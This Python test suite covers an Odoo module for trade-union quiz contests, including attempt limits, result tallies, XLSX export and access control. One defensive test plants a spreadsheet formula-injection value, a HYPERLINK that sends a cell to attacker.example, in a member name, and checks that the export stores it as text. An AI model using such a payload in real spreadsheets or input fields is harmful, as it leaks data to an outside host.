import base64
import io
from datetime import timedelta

import openpyxl

from odoo import fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged

from .common import EmulationCommon


@tagged("post_install", "-at_install")
class TestContest(EmulationCommon):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.survey = cls.env["survey.survey"].create({"title": "Tìm hiểu Luật Công đoàn 2024"})
        cls.question = cls.env["survey.question"].create({
            "survey_id": cls.survey.id, "title": "Luật Công đoàn 2024 có hiệu lực từ ngày nào?",
            "question_type": "simple_choice",
            "suggested_answer_ids": [
                (0, 0, {"value": "01/7/2025", "is_correct": True, "answer_score": 10}),
                (0, 0, {"value": "01/01/2025", "is_correct": False, "answer_score": 0}),
            ]})
        now = fields.Datetime.now()
        cls.contest = cls.env["union.contest"].with_user(cls.user_upper).create({
            "name": "Cuộc thi tìm hiểu Luật Công đoàn", "movement_id": cls.movement.id,
            "survey_id": cls.survey.id, "date_start": now - timedelta(days=1),
            "date_end": now + timedelta(days=10), "time_limit": 15, "attempts_limit": 2,
            "pass_percentage": 80})
        cls.contest.action_open()
        cls.right, cls.wrong = cls.question.suggested_answer_ids

    def _attempt(self, user, answer):
        answer_input = self.survey._create_answer(user=user)
        answer_input._save_lines(self.question, answer.id)
        answer_input._mark_done()
        return answer_input

    def test_survey_settings_follow_contest(self):
        survey = self.survey
        self.assertTrue(survey.is_time_limited)
        self.assertEqual(survey.time_limit, 15)
        self.assertTrue(survey.is_attempts_limited)
        self.assertEqual(survey.attempts_limit, 2)
        self.assertEqual(survey.scoring_type, "scoring_with_answers")
        self.assertTrue(survey.certification)
        self.assertTrue(survey.users_login_required)
        self.contest.attempts_limit = 3
        self.assertEqual(survey.attempts_limit, 3)
        with self.assertRaises(ValidationError):
            self.contest.attempts_limit = 0

    def test_results_participation_and_xlsx(self):
        portal_b1 = self.env["res.users"].create({
            "login": "t_portal_b1", "name": self.member_b1.name, "partner_id": self.member_b1.partner_id.id,
            "groups_id": [(6, 0, [self.env.ref("base.group_portal").id,
                                  self.env.ref("union_membership.group_union_member").id])]})
        first = self._attempt(self.user_portal_a1, self.wrong)
        second = self._attempt(self.user_portal_a1, self.right)
        self.assertEqual(first.scoring_percentage, 0)
        self.assertTrue(second.scoring_success)
        self._attempt(portal_b1, self.wrong)
        # the attempts are limited: a third one is refused by the survey
        self.assertFalse(self.survey._has_attempts_left(self.user_portal_a1.partner_id, False, False))

        members, units = self.contest._get_result_rows()
        by_member = {row["member"]: row for row in members}
        self.assertEqual(by_member["Nguyễn Thị Lan"]["best"], 100)
        self.assertEqual(by_member["Nguyễn Thị Lan"]["attempts"], 2)
        self.assertTrue(by_member["Nguyễn Thị Lan"]["passed"])
        self.assertFalse(by_member["Lê Thị Hoa"]["passed"])
        by_unit = {row["unit"]: row for row in units}
        self.assertEqual(by_unit[self.unit_a.name]["participants"], 1)
        self.assertEqual(by_unit[self.unit_a.name]["members"], 1)     # member_a2 is in the group below
        self.assertEqual(by_unit[self.unit_a.name]["rate"], 100)
        self.assertEqual(by_unit[self.group_a.name]["rate"], 0)
        self.assertEqual(self.contest.participant_count, 2)
        self.assertEqual(self.contest.eligible_count, 3)
        self.assertAlmostEqual(self.contest.participation_rate, 66.67, places=1)

        action = self.contest.with_user(self.user_upper).action_export_xlsx()
        # the suite's one download URL: /web/content/<model>/<id>/<field>/<file name>
        self.assertTrue(action["url"].startswith("/web/content/ir.attachment/"))
        attachment_id = int(action["url"].split("/")[4])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        sheet_members, sheet_units = book.worksheets
        rows = list(sheet_members.iter_rows(values_only=True))
        self.assertEqual(rows[1][1], "Nguyễn Thị Lan")
        self.assertEqual(rows[1][4], 100)
        self.assertEqual(rows[2][1], "Lê Thị Hoa")
        unit_rows = {row[0]: row for row in sheet_units.iter_rows(min_row=2, values_only=True)}
        self.assertEqual(unit_rows[self.unit_b.name][2], 1)
        self.assertEqual(unit_rows[self.unit_b.name][3], 100)

    def test_results_list_only_the_units_covered(self):
        """Audit: a member of a unit the movement does not cover who reached the questionnaire is
        neither listed nor counted in the results, and a member cannot export the results."""
        self.movement.target_organization_ids = [(6, 0, self.unit_a.ids)]
        portal_b1 = self.env["res.users"].create({
            "login": "t_portal_b1_out", "name": self.member_b1.name, "partner_id": self.member_b1.partner_id.id,
            "groups_id": [(6, 0, [self.env.ref("base.group_portal").id,
                                  self.env.ref("union_membership.group_union_member").id])]})
        self._attempt(self.user_portal_a1, self.right)
        self._attempt(portal_b1, self.right)
        members, units = self.contest._get_result_rows()
        self.assertEqual([row["member"] for row in members], [self.member_a1.name])
        self.assertNotIn(self.unit_b.name, [row["unit"] for row in units])
        self.assertEqual(self.contest.participant_count, 1)
        book = openpyxl.load_workbook(io.BytesIO(self.contest._get_xlsx()))
        self.assertNotIn(self.member_b1.name, [row[1] for row in book.worksheets[0].iter_rows(values_only=True)])
        for user in (self.user_portal_a1, portal_b1):
            with self.assertRaises(AccessError):
                self.contest.with_user(user).action_export_xlsx()

    def test_xlsx_keeps_user_text_as_text(self):
        """Issue 13 #9: a name starting with =, +, - or @ is written as text, not as a formula."""
        formula = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem")'
        portal_b1 = self.env["res.users"].create({
            "login": "t_portal_b1x", "name": "B1", "partner_id": self.member_b1.partner_id.id,
            "groups_id": [(6, 0, [self.env.ref("base.group_portal").id,
                                  self.env.ref("union_membership.group_union_member").id])]})
        self.member_b1.partner_id.name = formula
        self.unit_b.name = "@SUM(1+1)"
        self._attempt(portal_b1, self.right)
        book = openpyxl.load_workbook(io.BytesIO(self.contest._get_xlsx()))
        sheet_members, sheet_units = book.worksheets
        cells = {cell.value: cell for row in sheet_members.iter_rows(min_row=2) for cell in row}
        self.assertIn(formula, cells)
        self.assertEqual(cells[formula].data_type, "s")
        # the unit may be written with its parent's name in brackets: the text still starts with "@"
        self.assertEqual({cell.data_type for value, cell in cells.items()
                          if isinstance(value, str) and value.startswith("@SUM(1+1)")}, {"s"})
        # likewise, the unit may be written with its parent's name in brackets: the text still starts with "@"
        unit_cells = [cell for row in sheet_units.iter_rows(min_row=2) for cell in row
                      if isinstance(cell.value, str) and cell.value.startswith("@SUM(1+1)")]
        self.assertTrue(unit_cells)
        self.assertEqual({cell.data_type for cell in unit_cells}, {"s"})

    def test_contest_window_is_enforced(self):
        now = fields.Datetime.now()
        self.contest.write({"date_start": now + timedelta(days=2), "date_end": now + timedelta(days=9)})
        with self.assertRaisesRegex(UserError, self.contest.name):
            self.survey._create_answer(user=self.user_portal_a1)
        self.contest.write({"date_start": now - timedelta(days=9), "date_end": now - timedelta(days=2)})
        with self.assertRaises(UserError):
            self.survey._create_answer(user=self.user_portal_a1)
        self.contest.write({"date_start": now - timedelta(days=1), "date_end": now + timedelta(days=1)})
        self.assertTrue(self.survey._create_answer(user=self.user_portal_a1))

    def test_close_stops_new_attempts(self):
        self.contest.action_close()
        self.assertFalse(self.survey.active)
        with self.assertRaises(UserError):
            self.survey._create_answer(user=self.user_portal_a1)
        self.contest.action_open()
        self.assertTrue(self.survey._create_answer(user=self.user_portal_a1))

    def test_cron_closes_ended_contests(self):
        self.contest.date_end = fields.Datetime.now() - timedelta(minutes=1)
        self.contest.date_start = fields.Datetime.now() - timedelta(days=2)
        self.env["union.contest"]._cron_close_ended_contests()
        self.assertEqual(self.contest.state, "closed")

    def test_grassroots_officer_reads_contest_without_survey_rights(self):
        self.assertTrue(self.user_upper.has_group("survey.group_survey_user"))
        self.assertFalse(self.user_officer_a.has_group("survey.group_survey_user"))
        contest = self.contest.with_user(self.user_officer_a)
        arch = contest.get_views([(False, "form")])["views"]["form"]["arch"]
        self.assertNotIn('name="survey_id"', arch)
        data = contest.web_read({"survey_title": {}, "participation_rate": {}, "start_url": {}})[0]
        self.assertEqual(data["survey_title"], "Tìm hiểu Luật Công đoàn 2024")
        self.assertTrue(data["start_url"].endswith(self.survey.access_token))

    def test_access(self):
        contests = self.env["union.contest"].with_user(self.user_portal_a1)
        self.assertEqual(contests.search([("movement_id", "=", self.movement.id)]), self.contest)
        self.contest.state = "draft"
        self.assertFalse(contests.search([("movement_id", "=", self.movement.id)]))
        self.contest.state = "open"
        with self.assertRaises(AccessError):
            self.contest.with_user(self.user_officer_a).write({"name": "x"})
        with self.assertRaises(AccessError):
            self.env["union.contest"].with_user(self.user_portal_a1).create({
                "name": "x", "movement_id": self.movement.id, "survey_id": self.survey.id,
                "date_start": fields.Datetime.now(), "date_end": fields.Datetime.now() + timedelta(days=1)})
